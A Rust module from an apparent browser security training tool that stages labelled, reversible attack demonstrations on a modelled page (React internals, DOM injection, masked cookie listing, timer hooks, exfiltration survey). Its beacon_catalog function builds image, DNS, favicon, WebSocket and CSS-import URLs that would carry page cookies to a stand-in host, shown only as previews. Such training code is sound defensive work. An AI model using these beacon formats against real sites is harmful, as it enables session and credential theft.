//! Training-mode attack demonstrations.
//!
//! Each demonstration mutates the page world the way the simulated attack
//! would, renders an explanatory overlay, and registers cleanup actions
//! that undo every mutation. A session runs at most one demonstration at a
//! time; starting a new one drains the previous session's cleanups first.

use crate::detect;
use crate::guard;
use crate::logbook::now_millis;
use crate::page::{PageElement, PageWorld, TimerAction};
use crate::result::{EscudoError, EscudoResult};
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};
use std::fmt;
use std::str::FromStr;

/// Id of the persistent training-mode banner element.
pub const TRAINING_BANNER_ID: &str = "react-security-suite-training-banner";

/// Text shown on the training-mode banner.
pub const BANNER_TEXT: &str =
    "⚠️ REACT SECURITY TRAINING MODE ACTIVE - FOR EDUCATIONAL PURPOSES ONLY ⚠️";

/// Id of the overlay container most demonstrations render into.
pub const DEMO_CONTAINER_ID: &str = "react-security-demo-container";

/// Id of the tick indicator the persistent hook demonstration installs.
pub const HOOK_INDICATOR_ID: &str = "react-security-hook-indicator";

/// Id of the simulated injection block inside the DOM demonstration.
pub const INJECTION_ID: &str = "react-security-demo-injection";

/// Id of the exfiltration techniques overlay.
pub const EXFIL_CONTAINER_ID: &str = "react-security-exfiltration-demo-container";

/// Id of the beacon techniques overlay.
pub const BEACON_CONTAINER_ID: &str = "react-security-beacon-demo-container";

/// Attacker endpoint named in beacon previews. Reserved example host, never
/// resolvable.
const BEACON_HOST: &str = "malicious-server.example";

/// The demonstrations the suite can run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum DemoKind {
    /// Read React internals and report what an attacker would see
    ReactInternals,
    /// Simulate a content injection through the React root
    DomManipulation,
    /// Enumerate cookies visible to page scripts
    CookieAccess,
    /// Install a repeating hook that survives until cleanup
    PersistentHook,
    /// Survey exfiltrable data and beacon channels
    Exfiltration,
}

impl DemoKind {
    /// Protocol name of the kind, as it appears in requests and logs.
    #[must_use]
    pub const fn wire_name(self) -> &'static str {
        match self {
            Self::ReactInternals => "reactInternals",
            Self::DomManipulation => "domManipulation",
            Self::CookieAccess => "cookieAccess",
            Self::PersistentHook => "persistentHook",
            Self::Exfiltration => "exfiltration",
        }
    }
}

impl fmt::Display for DemoKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.wire_name())
    }
}

impl FromStr for DemoKind {
    type Err = EscudoError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "reactInternals" => Ok(Self::ReactInternals),
            "domManipulation" => Ok(Self::DomManipulation),
            "cookieAccess" => Ok(Self::CookieAccess),
            "persistentHook" => Ok(Self::PersistentHook),
            "exfiltration" => Ok(Self::Exfiltration),
            other => Err(EscudoError::UnknownDemoType {
                name: other.to_string(),
            }),
        }
    }
}

/// Kinds the automatic demonstration cycle runs, in order. Exfiltration is
/// manual-only.
pub const AUTO_SEQUENCE: [DemoKind; 4] = [
    DemoKind::ReactInternals,
    DemoKind::DomManipulation,
    DemoKind::CookieAccess,
    DemoKind::PersistentHook,
];

/// Timing knobs for demonstrations and the automatic cycle.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct DemoSchedule {
    /// Wait after stopping a prior demonstration before starting the cycle
    pub settle_ms: u64,
    /// How long each demonstration stays on screen
    pub observe_ms: u64,
    /// Pause between demonstrations in the cycle
    pub between_ms: u64,
    /// Tick period of the persistent hook indicator
    pub hook_interval_ms: u64,
}

impl Default for DemoSchedule {
    fn default() -> Self {
        Self {
            settle_ms: 1_000,
            observe_ms: 10_000,
            between_ms: 2_000,
            hook_interval_ms: 2_000,
        }
    }
}

/// One entry in the session's demonstration history.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct DemoRecord {
    /// When the demonstration started (Unix epoch millis)
    pub timestamp: u64,
    /// What ran
    #[serde(rename = "type")]
    pub kind: DemoKind,
    /// `React.version` at the time, or `unknown`
    pub react_version: String,
}

/// Shows the training banner at the top of the page. Idempotent.
pub fn show_training_banner(world: &mut PageWorld) {
    if world.element(TRAINING_BANNER_ID).is_some() {
        return;
    }
    world.prepend_element(
        PageElement::new("div")
            .with_id(TRAINING_BANNER_ID)
            .with_text(BANNER_TEXT),
    );
}

/// Removes the training banner if present.
pub fn hide_training_banner(world: &mut PageWorld) {
    world.remove_element(TRAINING_BANNER_ID);
}

type Cleanup = Box<dyn FnOnce(&mut PageWorld) -> EscudoResult<()> + Send>;

/// A demonstration session: the currently running demonstration, the
/// cleanup actions that undo it, and the history of everything run so far.
#[derive(Default)]
pub struct DemoSession {
    active: Option<DemoKind>,
    cleanups: Vec<Cleanup>,
    history: Vec<DemoRecord>,
}

impl fmt::Debug for DemoSession {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("DemoSession")
            .field("active", &self.active)
            .field("cleanups", &self.cleanups.len())
            .field("history", &self.history)
            .finish()
    }
}

impl DemoSession {
    /// Currently running demonstration, if any.
    #[must_use]
    pub const fn active(&self) -> Option<DemoKind> {
        self.active
    }

    /// Demonstrations started so far, oldest first.
    #[must_use]
    pub fn history(&self) -> &[DemoRecord] {
        &self.history
    }

    /// Starts a demonstration, stopping any running one first.
    ///
    /// Fails when training mode is off, or when the demonstration needs
    /// React and the page has none. A failed start leaves the session idle
    /// with every intermediate mutation undone; the history entry for the
    /// attempt is kept.
    pub fn start(
        &mut self,
        world: &mut PageWorld,
        kind: DemoKind,
        schedule: &DemoSchedule,
        training_active: bool,
    ) -> EscudoResult<()> {
        if !training_active {
            return Err(EscudoError::TrainingInactive);
        }
        self.stop(world);
        show_training_banner(world);
        self.history.push(DemoRecord {
            timestamp: now_millis(),
            kind,
            react_version: record_version(world),
        });
        self.active = Some(kind);
        tracing::info!(kind = %kind, "starting demonstration");
        let outcome = match kind {
            DemoKind::ReactInternals => self.demo_react_internals(world),
            DemoKind::DomManipulation => self.demo_dom_manipulation(world),
            DemoKind::CookieAccess => self.demo_cookie_access(world),
            DemoKind::PersistentHook => self.demo_persistent_hook(world, schedule),
            DemoKind::Exfiltration => self.demo_exfiltration(world),
        };
        if let Err(error) = outcome {
            tracing::warn!(kind = %kind, error = %error, "demonstration failed");
            self.stop(world);
            return Err(error);
        }
        Ok(())
    }

    /// Stops the running demonstration, draining cleanups in registration
    /// order. A failing cleanup is logged and does not stop the rest. No-op
    /// when idle. The training banner is left alone; it tracks training
    /// mode, not the demonstration.
    pub fn stop(&mut self, world: &mut PageWorld) {
        if self.active.is_none() && self.cleanups.is_empty() {
            return;
        }
        tracing::debug!(cleanups = self.cleanups.len(), "stopping demonstration");
        for cleanup in self.cleanups.drain(..) {
            if let Err(error) = cleanup(world) {
                let error = EscudoError::cleanup(error.to_string());
                tracing::warn!(error = %error, "demonstration cleanup step failed");
            }
        }
        self.active = None;
    }

    /// Inserts an overlay element and registers its removal as a cleanup.
    fn install_overlay(&mut self, world: &mut PageWorld, overlay: PageElement) {
        let id = overlay.id.clone().unwrap_or_default();
        world.insert_element(overlay);
        self.cleanups.push(Box::new(move |world: &mut PageWorld| {
            world.remove_element(&id);
            Ok(())
        }));
    }

    fn demo_react_internals(&mut self, world: &mut PageWorld) -> EscudoResult<()> {
        if world.react.is_none() && world.react_dom.is_none() {
            return Err(EscudoError::ReactNotDetected);
        }
        let components: Vec<Value> = world
            .dom
            .component_markers
            .iter()
            .take(5)
            .map(|marker| {
                json!({
                    "tagName": marker.tag.to_uppercase(),
                    "id": marker.id,
                    "className": marker.class_name,
                })
            })
            .collect();
        let info = json!({
            "version": detect::resolve_version(world),
            "hasReactDOM": world.react_dom.is_some(),
            "hasInternals": world.react.as_ref().is_some_and(|r| r.internals_exposed),
            "hasFiber": world
                .react
                .as_ref()
                .is_some_and(|r| r.internals_exposed && r.current_owner_present),
            "rootElements": world.dom.react_root_markers,
            "possibleComponents": components,
        });
        let rendered = serde_json::to_string_pretty(&info)?;
        let container = PageElement::new("div")
            .with_id(DEMO_CONTAINER_ID)
            .with_child(PageElement::new("h2").with_text("React Internals Access Demonstration"))
            .with_child(PageElement::new("p").with_text(
                "This demonstrates how malicious code could access React internals.",
            ))
            .with_child(PageElement::new("h3").with_text("Detected React Information:"))
            .with_child(PageElement::new("pre").with_text(rendered));
        self.install_overlay(world, container);
        Ok(())
    }

    fn demo_dom_manipulation(&mut self, world: &mut PageWorld) -> EscudoResult<()> {
        if world.react.is_none() && world.react_dom.is_none() {
            return Err(EscudoError::ReactNotDetected);
        }
        let target = if world.dom.react_root_markers > 0 {
            Some(("DIV".to_string(), "none".to_string()))
        } else {
            world.element("root").map(|element| {
                let tag = element.tag.to_uppercase();
                let id = element.id.clone().unwrap_or_else(|| "none".to_string());
                (tag, id)
            })
        };
        let mut container = PageElement::new("div")
            .with_id(DEMO_CONTAINER_ID)
            .with_child(PageElement::new("h2").with_text("DOM Manipulation Demonstration"))
            .with_child(PageElement::new("p").with_text(
                "This demonstrates how malicious code could manipulate the DOM using React.",
            ));
        let inject = target.is_some();
        if let Some((tag, id)) = target {
            container = container
                .with_child(PageElement::new("h3").with_text("Target Found:"))
                .with_child(
                    PageElement::new("p")
                        .with_text(format!("React root element: {tag} (id: {id})")),
                )
                .with_child(PageElement::new("h3").with_text("Simulated Injection:"))
                .with_child(PageElement::new("p").with_text(
                    "The following content would be injected into the React application:",
                ));
        } else {
            container = container
                .with_child(PageElement::new("h3").with_text("No React Root Found"))
                .with_child(PageElement::new("p").with_text(
                    "Could not find a React root element to demonstrate the attack.",
                ));
        }
        self.install_overlay(world, container);
        if inject {
            // Lands beside the root like a real injection would, not inside
            // the overlay
            self.install_overlay(
                world,
                PageElement::new("div")
                    .with_id(INJECTION_ID)
                    .with_child(
                        PageElement::new("strong")
                            .with_text("⚠️ SIMULATED MALICIOUS CONTENT INJECTION ⚠️"),
                    )
                    .with_text("This content was injected for demonstration purposes only."),
            );
        }
        Ok(())
    }

    fn demo_cookie_access(&mut self, world: &mut PageWorld) -> EscudoResult<()> {
        let mut container = PageElement::new("div")
            .with_id(DEMO_CONTAINER_ID)
            .with_child(PageElement::new("h2").with_text("Cookie Access Demonstration"))
            .with_child(
                PageElement::new("p")
                    .with_text("This demonstrates how malicious code could access cookies."),
            )
            .with_child(PageElement::new("h3").with_text("Cookies Found:"));
        if world.cookies.is_empty() {
            container = container
                .with_child(PageElement::new("p").with_text("No cookies found on this page."));
        } else {
            let mut list = PageElement::new("ul");
            for cookie in &world.cookies {
                let length = cookie.value.chars().count();
                let masked = "*".repeat(length);
                list = list.with_child(PageElement::new("li").with_text(format!(
                    "{}: {masked} ({length} characters)",
                    cookie.name
                )));
            }
            container = container.with_child(list);
        }
        self.install_overlay(world, container);
        Ok(())
    }

    fn demo_persistent_hook(
        &mut self,
        world: &mut PageWorld,
        schedule: &DemoSchedule,
    ) -> EscudoResult<()> {
        if world.react.is_none() && world.react_dom.is_none() {
            return Err(EscudoError::ReactNotDetected);
        }
        let container = PageElement::new("div")
            .with_id(DEMO_CONTAINER_ID)
            .with_child(PageElement::new("h2").with_text("Persistent Hook Demonstration"))
            .with_child(PageElement::new("p").with_text(
                "This demonstrates how malicious code could create persistent hooks in React.",
            ));
        self.install_overlay(world, container);

        world.insert_element(
            PageElement::new("div")
                .with_id(HOOK_INDICATOR_ID)
                .with_child(PageElement::new("strong").with_text("Persistent Hook Demo:"))
                .with_text("Hook executed 0 times"),
        );
        let timer = world.set_interval(
            schedule.hook_interval_ms,
            TimerAction::UpdateHookIndicator {
                target_id: HOOK_INDICATOR_ID.to_string(),
            },
        );
        self.cleanups.push(Box::new(move |world: &mut PageWorld| {
            world.clear_interval(timer);
            world.remove_element(HOOK_INDICATOR_ID);
            Ok(())
        }));
        Ok(())
    }

    fn demo_exfiltration(&mut self, world: &mut PageWorld) -> EscudoResult<()> {
        let cookie_names: Vec<String> = world.cookies.iter().map(|c| c.name.clone()).collect();
        let sensitive: Vec<String> = world
            .storage
            .keys()
            .filter(|key| guard::is_sensitive_key(key))
            .cloned()
            .collect();
        let (inputs, passwords) = count_inputs(&world.dom.elements);

        let mut exfil = PageElement::new("div")
            .with_id(EXFIL_CONTAINER_ID)
            .with_child(PageElement::new("h2").with_text("Data Exfiltration Techniques"))
            .with_child(PageElement::new("p").with_text(
                "This demonstrates how sensitive data could be exfiltrated from React applications.",
            ))
            .with_child(PageElement::new("h3").with_text("Cookies:"));
        if cookie_names.is_empty() {
            exfil = exfil.with_child(
                PageElement::new("p").with_text("No cookies visible to page scripts."),
            );
        } else {
            exfil = exfil.with_child(PageElement::new("p").with_text(format!(
                "{} cookies visible to page scripts: {}",
                cookie_names.len(),
                cookie_names.join(", ")
            )));
        }
        exfil = exfil.with_child(PageElement::new("h3").with_text("Sensitive Storage Keys:"));
        if sensitive.is_empty() {
            exfil = exfil
                .with_child(PageElement::new("p").with_text("No sensitive keys in localStorage."));
        } else {
            let mut list = PageElement::new("ul");
            for key in &sensitive {
                list = list.with_child(PageElement::new("li").with_text(key.clone()));
            }
            exfil = exfil.with_child(list);
        }
        exfil = exfil
            .with_child(PageElement::new("h3").with_text("Form Inputs:"))
            .with_child(PageElement::new("p").with_text(format!(
                "{inputs} input elements observed ({passwords} password)"
            )));
        self.install_overlay(world, exfil);

        let mut techniques = PageElement::new("ul");
        for preview in beacon_catalog(world) {
            techniques = techniques.with_child(PageElement::new("li").with_text(preview));
        }
        let beacon = PageElement::new("div")
            .with_id(BEACON_CONTAINER_ID)
            .with_child(
                PageElement::new("h2").with_text("Beacon-Based Exfiltration Techniques"),
            )
            .with_child(PageElement::new("p").with_text(
                "This demonstrates how data can be exfiltrated using various beacon techniques \
                 that may bypass traditional protections.",
            ))
            .with_child(PageElement::new("h3").with_text("Potential Beacon Techniques:"))
            .with_child(techniques);
        self.install_overlay(world, beacon);
        Ok(())
    }
}

/// Version label recorded in history entries. Reads the React global only;
/// marker heuristics are detection's business, not the record's.
fn record_version(world: &PageWorld) -> String {
    world
        .react
        .as_ref()
        .and_then(|react| react.version.clone())
        .unwrap_or_else(|| "unknown".to_string())
}

/// Builds the five beacon previews for a page: the exact URL or channel each
/// technique would use to carry the page's cookies and location off-site.
#[must_use]
pub fn beacon_catalog(world: &PageWorld) -> Vec<String> {
    let payload = json!({
        "cookies": world.cookie_string(),
        "url": world.url,
    })
    .to_string();
    let encoded = percent_encode(&payload);
    vec![
        format!("Image Beacon: https://{BEACON_HOST}/beacon.gif?data={encoded}"),
        format!(
            "DNS Beacon: https://{}.{BEACON_HOST}/beacon.gif",
            dns_labels(&payload)
        ),
        format!("Favicon Beacon: https://{BEACON_HOST}/favicon.ico?data={encoded}"),
        format!("WebSocket Beacon: wss://{BEACON_HOST}/beacon payload {payload}"),
        format!("CSS Beacon: @import url(\"https://{BEACON_HOST}/beacon.css?data={encoded}\")"),
    ]
}

/// `encodeURIComponent` semantics: ASCII alphanumerics and `-_.!~*'()` pass
/// through, every other byte of the UTF-8 encoding becomes `%XX`.
fn percent_encode(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    for byte in input.as_bytes() {
        match byte {
            b'A'..=b'Z'
            | b'a'..=b'z'
            | b'0'..=b'9'
            | b'-'
            | b'_'
            | b'.'
            | b'!'
            | b'~'
            | b'*'
            | b'\''
            | b'('
            | b')' => out.push(char::from(*byte)),
            _ => out.push_str(&format!("%{byte:02X}")),
        }
    }
    out
}

/// Encodes a payload as dot-joined base64url labels, each within the 63
/// character DNS label limit.
fn dns_labels(payload: &str) -> String {
    let encoded = URL_SAFE_NO_PAD.encode(payload);
    encoded
        .as_bytes()
        .chunks(63)
        .map(|chunk| std::str::from_utf8(chunk).unwrap_or_default().to_string())
        .collect::<Vec<_>>()
        .join(".")
}

/// Counts input elements in a tree: total and how many are password fields.
fn count_inputs(elements: &[PageElement]) -> (usize, usize) {
    let mut total = 0;
    let mut passwords = 0;
    for element in elements {
        if element.tag == "input" {
            total += 1;
            if element.attr("type") == Some("password") {
                passwords += 1;
            }
        }
        let (nested_total, nested_passwords) = count_inputs(&element.children);
        total += nested_total;
        passwords += nested_passwords;
    }
    (total, passwords)
}
